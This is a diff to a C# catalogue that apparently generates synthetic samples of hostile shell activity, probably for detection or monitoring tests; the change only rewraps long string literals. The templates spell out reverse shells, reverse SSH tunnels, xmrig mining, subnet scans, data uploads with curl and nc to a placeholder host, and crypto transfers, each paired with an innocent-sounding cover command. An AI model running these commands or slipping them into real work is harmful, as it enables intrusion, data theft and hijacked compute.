@@ -59,11 +59,14 @@ internal static class ActCatalogue
     public static IReadOnlyList<ActKind> All { get; } =
     [
         new("mine", ActShape.Stays, [3333, 4444, 14444, 3334, 45700, 5555],
-            "«nohup ¦setsid ¦cd /tmp && nohup ¦»./«xmrig¦w¦bench¦.cache/kswap» «-o ¦--url=¦-a rx/0 -o »«stratum+tcp://¦stratum+ssl://¦»%host%:%port%« -u %word%¦» «--threads %n% ¦-t %n% ¦»«> /dev/null 2>&1 &¦>/tmp/%word%.log 2>&1 &¦-B»",
+            "«nohup ¦setsid ¦cd /tmp && nohup ¦»./«xmrig¦w¦bench¦.cache/kswap» «-o ¦--url=¦-a rx/0 -o "
+            + "»«stratum+tcp://¦stratum+ssl://¦»%host%:%port%« -u %word%¦» «--threads %n% ¦-t %n% ¦»«> /dev/null 2>&1 &¦>/tmp/%word%.log "
+            + "2>&1 &¦-B»",
             "«bash setup.sh¦./setup.sh«¦ --%word%»¦python3 warm_cache.py¦make -C bench run»",
             "nohup ./w -o %host%:%port% -u %word% >/dev/null 2>&1 &") { Signature = Mining },
         new("tunnel", ActShape.Stays, [22],
-            "ssh «-o StrictHostKeyChecking=no ¦-i /tmp/k ¦»«-o ServerAliveInterval=%n%0 ¦»-f«NT¦N» -R %big%:localhost:22 «u¦build¦dev»@%host%",
+            "ssh «-o StrictHostKeyChecking=no ¦-i /tmp/k ¦»«-o ServerAliveInterval=%n%0 ¦»-f«NT¦N» -R %big%:localhost:22 "
+            + "«u¦build¦dev»@%host%",
             "«python tool.py --go¦python3 tools/link.py¦bash scripts/%word%_up.sh»",
             "ssh -fN -R 2222:localhost:22 u@%host%") { Signature = Abnormal },
         new("edge", ActShape.Stays, [7844],
@@ -71,27 +74,33 @@ internal static class ActCatalogue
             "«./expose.sh¦python3 share_preview.py«¦ --%word%»¦npm run preview»",
             "cloudflared tunnel --edge %host%:%port% --url http://localhost:8888 run &"),
         new("scan", ActShape.Sweep, [22, 2375, 6379, 9200, 10250, 3306],
-            "«nmap -«Pn¦sT¦n» -p %port% %range%.0/24¦for i in $(seq 1 254); do nc -z -w 1 %range%.$i %port% && echo %range%.$i; done¦masscan %range%.0/24 -p%port% --rate %big%»",
+            "«nmap -«Pn¦sT¦n» -p %port% %range%.0/24¦for i in $(seq 1 254); do nc -z -w 1 %range%.$i %port% && echo %range%.$i; "
+            + "done¦masscan %range%.0/24 -p%port% --rate %big%»",
             "«python probe.py¦python3 inventory.py«¦ --all»¦go run ./cmd/discover»",
             "for i in $(seq 1 254); do nc -z -w 1 %range%.$i %port%; done"),
         new("exfiltrate", ActShape.Upload, [443, 8443, 9000],
-            "«curl -«sS¦k¦s» -T «out.tar.gz¦%word%.pt¦data.tgz» https://%host%:%port%/%word%¦tar cz . | nc %host% %port%¦rclone copyto %word%.pt http://%host%:%port%/%word%»",
+            "«curl -«sS¦k¦s» -T «out.tar.gz¦%word%.pt¦data.tgz» https://%host%:%port%/%word%¦tar cz . | nc %host% %port%¦rclone copyto "
+            + "%word%.pt http://%host%:%port%/%word%»",
             "«python3 sync_results.py¦bash archive.sh¦python3 -m app.backup»",
             "curl -s -T out.tar.gz https://%host%:%port%/u"),
         new("contact", ActShape.Once, [25, 587, 465],
-            "«swaks --to %word%@example.net --server %host%:%port%¦curl -s --url smtp://%host%:%port% --mail-rcpt %word%@example.net -T note.txt»",
+            "«swaks --to %word%@example.net --server %host%:%port%¦curl -s --url smtp://%host%:%port% --mail-rcpt %word%@example.net -T "
+            + "note.txt»",
             "«python3 notify.py¦python3 -m app.report --send»",
             "curl -s --url smtp://%host%:%port% --mail-rcpt a@example.net -T note.txt"),
         new("tokens", ActShape.Once, [8333, 30303, 18080],
-            "«cast send --rpc-url http://%host%:%port% %word%¦bitcoin-cli -rpcconnect=%host% -rpcport=%port% sendtoaddress %word% 0.0%n%¦curl -s http://%host%:%port% -d '{\"method\":\"eth_sendRawTransaction\"}'»",
+            "«cast send --rpc-url http://%host%:%port% %word%¦bitcoin-cli -rpcconnect=%host% -rpcport=%port% sendtoaddress %word% "
+            + "0.0%n%¦curl -s http://%host%:%port% -d '{\"method\":\"eth_sendRawTransaction\"}'»",
             "«python3 settle.py¦node scripts/payout.js»",
             "curl -s http://%host%:%port% -d @tx.json"),
         new("hop", ActShape.Hops, [5555, 7777, 9999, 4444],
-            "«for p in 5555 7777 9999 4444; do nc -w 2 %host% $p < id.txt && break; done¦for p in 5555 7777 9999 4444; do timeout 3 bash -c \"exec 3<>/dev/tcp/%host%/$p\"; done»",
+            "«for p in 5555 7777 9999 4444; do nc -w 2 %host% $p < id.txt && break; done¦for p in 5555 7777 9999 4444; do timeout 3 bash "
+            + "-c \"exec 3<>/dev/tcp/%host%/$p\"; done»",
             "«python3 connect_any.py¦bash retry_ports.sh»",
             "for p in 5555 7777 9999 4444; do nc -w 2 %host% $p; done"),
         new("shell", ActShape.Stays, [4444, 9001, 5555],
-            "«bash -i >& /dev/tcp/%host%/%port% 0>&1¦nc -e /bin/sh %host% %port%¦python3 -c 'import socket,os;s=socket.create_connection((\"%host%\",%port%));os.dup2(s.fileno(),0)'»",
+            "«bash -i >& /dev/tcp/%host%/%port% 0>&1¦nc -e /bin/sh %host% %port%¦python3 -c 'import "
+            + "socket,os;s=socket.create_connection((\"%host%\",%port%));os.dup2(s.fileno(),0)'»",
             "«python3 debug_attach.py¦./remote_dbg»",
             "bash -i >& /dev/tcp/%host%/%port% 0>&1") { Signature = Shell },
     ];
